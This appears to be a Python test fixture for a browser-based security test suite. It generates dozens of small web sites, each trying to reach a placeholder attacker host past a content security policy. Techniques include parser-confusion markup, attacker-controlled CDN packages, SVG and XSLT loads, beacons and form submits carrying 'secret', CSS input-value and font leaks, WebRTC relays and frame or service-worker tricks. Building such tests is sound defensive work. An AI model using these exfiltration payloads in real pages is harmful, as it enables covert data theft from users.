"""Sites that tell an attacker that they are opened, each in another way: parsers, libraries, hosts
of everybody's code, files beside the page, and the ways out that lists of leaks and of policies'
gaps name (cure53/HTTPLeaks, w3c/webappsec-csp, WICG/anti-exfil).

Each reaches its attacker in Chromium if it is published as it is (`tests.browser.attacks`).
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Mapping
from dataclasses import dataclass, field

from tests.unit.generation.builders import PAGE

SVG = 'xmlns="http://www.w3.org/2000/svg"'
JSDELIVR = "https://cdn.jsdelivr.net"
# What libraries do with the page's own text, in a line each: they run it.
RUNS_SCRIPTS = "for (const s of document.querySelectorAll('[type^=text]')) (0, eval)(s.text)"
RUNS_ATTRIBUTES = (
    "for (const e of document.querySelectorAll('*')) for (const a of e.attributes) "
    "if (/^(x-|@|hx-on)/.test(a.name) && a.value) new Function(a.value).call(e)"
)


@dataclass(frozen=True)
class Attack:
    """A site that was made to get out."""

    files: Mapping[str, str]
    serves: Mapping[str, str] = field(default_factory=dict)
    """Answers of other hosts, by URL, that the attacker has put there or that a library is."""
    attached: tuple[str, ...] = ()
    """The files that came with the request, and stay as they are."""
    opens: str = ""
    """The file that a visitor opens, if it is not the start page or the only drawing."""

    @property
    def opened(self) -> str:
        """The file that a visitor opens: a drawing by itself, else the start page."""
        alone = (path for path in self.files if path.endswith((".svg", ".xml")))
        return self.opens or ("index.html" if "index.html" in self.files else next(alone))


def _base64(text: str) -> str:
    return b64encode(text.encode()).decode()


def _site(
    markup: str = "", code: str = "", *, head: str = "", serves: Mapping[str, str] | None = None,
    attached: tuple[str, ...] = (), **files: str,
) -> Attack:  # fmt: skip
    """A page with markup, code and a head of the attacker's; `x_txt` is the file x.txt."""
    page = PAGE.replace("</main>", f"{markup}</main>").replace(
        "let shown", f"{code}\n    let shown"
    )
    others = {name.replace("_", "."): text for name, text in files.items()}
    return Attack(
        {"index.html": page.replace("</head>", f"{head}</head>"), **others}, serves or {}, attached
    )


def _peers(server: str) -> str:
    return (
        f"const peer = new RTCPeerConnection({{ iceServers: [{{ {server} }}] }}); "
        'peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o));'
    )


def attacks(evil: str, udp: str) -> dict[str, Attack]:
    """The attacks of one attacker, whose host is `evil`; at `udp` it listens to packets.

    Nobody's brief names it.
    """
    place = f"https://{evil}/"
    tells = f'fetch("{place}")'
    miner = f"{JSDELIVR}/npm/{evil}@1.0.0/x.js"
    babel, alpine, htmx = (
        f"https://unpkg.com/{name}"
        for name in ("@babel/standalone@7/x.js", "alpinejs@3/x.js", "htmx.org@2/x.js")
    )
    marked = f"{JSDELIVR}/npm/marked@12/x.js"
    gh, wp, jsr = (
        f"{JSDELIVR}/gh/{evil}/x@1/x.js",
        f"{JSDELIVR}/wp/{evil}/trunk/x.js",
        f"https://esm.sh/jsr/@{evil}/x.js",
    )
    picture = f"<img alt='' src='{place}x.png'>"
    return {
        # parsers that see less than a browser
        "a script in a style in a drawing": _site(f"<svg><style><p><script src={place}x.js></script></style></svg>"),
        "a handler in a style in a drawing": _site(f"<svg><style><img src=x onerror=import(`//{evil}/x.js`)></style></svg>"),
        "a script in a bogus comment": _site(f"<![if > <script src={place}x.js></script> ]>"),
        "an end tag with an attribute": _site(f"<style></style x><script src={place}x.js></script><style></style>"),
        # code that a library runs
        "JSX": _site(f'<script type="text/babel">{tells}</script><script src="{babel}"></script>', serves={babel: RUNS_SCRIPTS}),
        "Alpine's x-init": _site(f"<div x-data x-init='{tells}'></div><script src=\"{alpine}\"></script>", serves={alpine: RUNS_ATTRIBUTES}),
        "htmx's hx-on": _site(f"<div hx-on:htmx:load='{tells}'></div><script src=\"{htmx}\"></script>", serves={htmx: RUNS_ATTRIBUTES}),
        "a template that is shown": _site(
            f'<script type="text/x-template" id="t">{picture}</script><div id="app"></div>', 'app.innerHTML = document.querySelector("#t").text;'
        ),
        # drawings that are opened by themselves
        "an entity": Attack({"a.svg": f'<!DOCTYPE svg [<!ENTITY x "<script {SVG.replace(chr(34), chr(39))}>fetch(`{place}`)</script>">]><svg {SVG}>&x;</svg>'}),
        "a style sheet of a drawing": Attack({"a.svg": f'<?xml-stylesheet type="text/css" href="{place}x.css"?><svg {SVG}/>'}),
        "a style sheet that makes a page": Attack({
            "feed.xml": '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><feed/>',
            "x.xsl": '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
                     f'<html><body><img src="{place}x.png"/></body></html></xsl:template></xsl:stylesheet>',
        }),
        "an animated address": Attack({"a.svg": f'<svg {SVG}><image><animate attributeName="href" values="{place}x.png" dur="1s" fill="freeze"/></image></svg>'}),
        # data that is a document
        "a drawing in an address": _site(f'<iframe src="data:image/svg+xml;base64,{_base64(f"<svg {SVG}><script>{tells}</script></svg>")}"></iframe>'),
        "a style sheet in an address": _site(f'<link rel="stylesheet" href="data:text/css;base64,{_base64(f"@import url({place}x.css);")}">'),
        "a page in an address": _site(f'<iframe src="data:text/html;base64,{_base64(picture)}"></iframe><object data="data:text/html,{picture}"></object>'),
        # hosts that serve anybody's code
        "a package that tells its author": _site(f'<script src="{miner}"></script>', serves={miner: tells}),
        "a repository as a library": _site(f'<script src="{JSDELIVR}\\gh\\{evil}\\x@1\\x.js"></script>', serves={gh: tells}),
        "a plugin as a library": _site(f'<script src="{wp}"></script>', serves={wp: tells}),
        "another registry's package": _site(f'<script type="module">import "{jsr}";</script>', serves={jsr: tells}),
        # peers
        "a relay for peers": _site(code=_peers(f'urls: "turn:{udp}", username: "secret", credential: "x"')),
        # files beside the page
        "a text that is a script": _site('<script src="./sub/../x.txt"></script>', x_txt=tells),
        "a text that is a script, escaped": _site('<script src="%78.txt"></script>', x_txt=tells),
        "a text that becomes a script": _site(code='const s = document.createElement("script"); s.src = "./x.txt"; document.head.append(s);', x_txt=tells),
        "a text with markup": _site(code='fetch("./x.md").then((r) => r.text()).then((t) => { document.body.innerHTML = t; });', x_md=picture),
        "the README's picture": _site(
            f'<script src="{marked}"></script>', 'setTimeout(async () => { document.body.innerHTML = marked.parse(await (await fetch("./README.md")).text()); }, 300);',
            serves={marked: "marked = { parse: (t) => t.replace(/!\\[(.*)\\]\\((.*)\\)/, '<img alt=\"$1\" src=\"$2\">') }"}, README_md=f"# Colours\n\n![x]({place}x.png)\n",
        ),
        # --- twenty of our own
        # elements that ask
        "a base for relative addresses": _site('<script src="x.js"></script>', head=f'<base href="{place}">'),
        "a page that is fetched ahead": _site(head=f'<link rel="prefetch" href="{place}">'),
        "a picture that is loaded ahead": _site(head=f'<link rel="preload" as="image" imagesrcset="{place}x.png 1x">'),
        "a form that sends itself": _site(f'<form action="{place}" target="f"><input name="x" value="secret"></form><iframe name="f"></iframe>', "document.forms[0].submit();"),
        "a ping of a link": _site(f'<a id="a" href="#" ping="{place}">x</a>', "a.click();"),
        "a plugin": _site(f'<object data="{place}x.svg"></object><embed src="{place}">'),
        # styles that ask
        "a style that reads a field": _site('<input value="secret">', head=f'<style>input[value^="s"] {{ background: url({place}s) }}</style>'),
        "a font for a letter": _site("<p style=\"font-family: x\">secret</p>", head=f'<style>@font-face {{ font-family: x; src: url({place}s.woff); unicode-range: U+73 }}</style>'),
        "a variable that is an address": _site("<p class=\"x\">x</p>", head=f'<style>.x {{ --u: image-set("{place}x.png" 1x); background: var(--u) }}</style>'),
        "a filter's picture": _site(f'<svg><filter id="f"><feImage href="{place}x.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>'),
        # scripts that ask
        "an address that is put together": _site(code=f'const [b, a] = {evil.split(".")[::-1]}; fetch(["https:", "", `${{a}}.${{b}}`, ""].join("/"));'),
        "a beacon at the end": _site(code=f'addEventListener("pagehide", () => navigator.sendBeacon("{place}", "secret")); setTimeout(() => location.reload(), 100);'),
        "a socket": _site(code=f'new WebSocket("wss://{evil}/");'),
        "a stream of events": _site(code=f'new EventSource("{place}");'),
        "a worker in an address": _site(code=f"new Worker('data:text/javascript,{tells}');"),
        "a worker from a blob": _site(code=f"new Worker(URL.createObjectURL(new Blob(['{tells}'])));"),
        "a page from a blob": _site('<iframe id="f"></iframe>', f'f.src = URL.createObjectURL(new Blob(["{picture}"], {{ type: "text/html" }}));'),
        "an empty frame's fetch": _site('<iframe id="f"></iframe>', f'f.contentWindow.fetch("{place}");'),
        # documents without a policy
        "a frame of a text that is written into": _site(
            '<iframe src="./x.txt" id="f"></iframe>', f'f.onload = () => {{ f.contentDocument.body.innerHTML = "{picture}"; }};', x_txt="x"
        ),
        "a frame's document by its window": _site(
            '<iframe src="./x.json" id="f"></iframe>', f'f.onload = () => {{ frames[0].document.write("{picture}"); }};', x_json="{}"
        ),
        "a service worker": _site(code='navigator.serviceWorker.register("./sw.js");', sw_js=f'oninstall = () => {tells};'),
        "a frame's window by its number": _site('<iframe src="./x.txt" id="f"></iframe>', f'f.onload = () => window[0].fetch("{place}");', x_txt="x"),
        "a frame's window by its name": _site('<iframe src="./x.txt" name="q" id="f"></iframe>', f'f.onload = () => q.fetch("{place}");', x_txt="x"),
        "code that is sent into a frame": _site('<iframe src="./x.txt" id="f"></iframe>', f"f.onload = () => {{ f.src = 'javascript:{tells}'; }};", x_txt="x"),
        "a link into a frame": _site(
            f"<iframe src='./x.txt' name='q' id='f'></iframe><a id='a' target='q' href='javascript:{tells}'>x</a>", "f.onload = () => a.click();", x_txt="x"
        ),
        "a frame on a file that is not there": _site(
            '<iframe id="f"></iframe>', f'f.onload = () => {{ f.contentDocument.body.innerHTML = "{picture}"; }}; f.src = "./no.txt";'
        ),
        "a window on a text": _site(
            code=f'const w = open("./x.txt"); setTimeout(() => {{ w.document.body.innerHTML = "{picture}"; }}, 700);', x_txt="x"
        ),
        # attachments
        "an attached page that is gone to": _site(code='location = "./report.html";', attached=("report.html",), report_html=f"<script>{tells}</script>"),
        "an attached page that is refreshed to": _site(
            head='<meta http-equiv="refresh" content="0; url=report.html">', attached=("report.html",), report_html=f"<script>{tells}</script>"
        ),
        "an attached page in a frame": _site('<iframe src="report.html"></iframe>', attached=("report.html",), report_html=picture),
        "an attached page in a sandbox": _site(
            '<iframe src="report.html" sandbox="allow-scripts"></iframe>', attached=("report.html",), report_html=f"<script>{tells}</script>"
        ),
        "an attached drawing in a frame": _site('<iframe src="a.svg"></iframe>', attached=("a.svg",), a_svg=f"<svg {SVG}><script>{tells}</script></svg>"),
        "an attached script": _site('<script src="app.js"></script>', attached=("app.js",), app_js=f'location = "{place}";'),
        "an attached text with markup": _site(
            code='fetch("./x.md").then((r) => r.text()).then((t) => { document.body.innerHTML = t; });', attached=("x.md",),
            x_md=f"<img src=x alt='' onerror='location=`{place}`'>",
        ),
        # further ways out
        "a login that another provides": _site(code=f'navigator.credentials.get({{ identity: {{ providers: [{{ configURL: "{place}config.json", clientId: "secret" }}] }} }});'),
    }  # fmt: skip


def limits(evil: str) -> dict[str, Attack]:
    """Attacks that neither the policy nor a gate holds, as SECURITY.md says."""
    place = f"https://{evil}/"
    return {
        "a cipher": _site(
            code=f'const word = [..."mpdbujpo"].map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join(""); window[word] = "{place}";'
        ),
        "an attached page by its address": Attack(
            {"report.html": f'<script>fetch("{place}")</script>'}, attached=("report.html",), opens="report.html"
        ),
    }  # fmt: skip
